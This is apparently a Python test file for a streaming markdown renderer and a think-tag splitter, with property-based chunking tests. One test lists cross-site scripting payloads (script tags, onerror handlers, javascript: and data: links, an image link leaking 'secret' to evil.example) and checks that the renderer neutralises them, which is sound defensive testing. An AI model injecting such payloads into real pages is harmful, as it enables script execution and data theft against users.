import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from weft.surfaces.markdown import MarkdownStream, highlight, render
from weft.surfaces.web.think import ThinkSplitter

PIECES = ["word ", "**bold** ", "\n", "\n\n", "- item\n", "1. one\n", "# Head\n", "```py\nx = 1\n", "```\n", "> q\n"]
PIECES += ["| a | b |\n|---|---|\n| 1 | 2 |\n", "    code\n", "`", "<think>", "</think>", "***\n", "\\", "<b>"]
documents = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)


def cut(text: str, data: st.DataObject) -> list[str]:
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]


def streamed(pieces: list[str]) -> str:
    stream = MarkdownStream()
    out: list[str] = []
    for piece in pieces:
        out += stream.feed(piece)[0]
    return "".join([*out, *stream.end()])


@settings(deadline=None)
@given(documents, st.data())
def test_any_chunking_renders_the_same_as_the_whole(text: str, data: st.DataObject) -> None:
    assert streamed(cut(text, data)) == render(text)


@given(st.lists(st.sampled_from(["<think>", "</think>", "<", "think", ">", "a", "</"]), max_size=20), st.data())
def test_any_chunking_of_think_tags_gives_the_same_pieces(parts: list[str], data: st.DataObject) -> None:
    text = "".join(parts)

    def split(pieces: list[str]) -> list[tuple[str, str]]:
        splitter = ThinkSplitter()
        out: list[tuple[str, str]] = []
        for kind, piece in [p for each in pieces for p in splitter.feed(each)] + splitter.end():
            if out and out[-1][0] == kind:
                out[-1] = (kind, out[-1][1] + piece)
            else:
                out.append((kind, piece))
        return out

    assert split(cut(text, data)) == split([text])


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "![x](https://evil.example/?q=secret)",
        '<a href="x" onclick="y">z</a>',
        "```html\n<script>alert(1)</script>\n```",
        "[x](vbscript:msgbox)",
        '<iframe src="//evil"></iframe>',
        '```"><script>alert(1)</script>\nx\n```',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
    ],
)
def test_hostile_markdown_runs_nothing_and_fetches_nothing(hostile: str) -> None:
    html = render(hostile)
    for tag in ("<script", "<img", "<iframe", "<svg", "<style"):
        assert tag not in html
    assert 'href="javascript' not in html
    assert 'href="data' not in html
    assert 'href="vbscript' not in html
    assert "<a" not in html or "onclick=" not in html.split("<a", 1)[1].split(">", 1)[0]


def test_an_open_fence_is_shown_plain_and_grows_by_adding() -> None:
    stream = MarkdownStream()
    _, tail = stream.feed("```python\nx = 1\n")
    assert tail is not None
    assert "x = 1" in tail
    assert stream.feed("y = 2\n") == ([], None)
    finished, _ = stream.feed("```\n\nDone\n")
    assert "hl-" in finished[0]
    assert "y" in finished[0]


def test_code_of_an_unknown_language_is_escaped() -> None:
    assert highlight("<b>", "no-such-language") == "&lt;b&gt;"
    assert highlight("<b>", "") == "&lt;b&gt;"


def test_very_long_paragraphs_cost_linear_time() -> None:
    stream = MarkdownStream()
    rendered = sum(len(tail) for _ in range(2_000) if (tail := stream.feed("word " * 20)[1]) is not None)
    assert rendered < 200_000 * 8
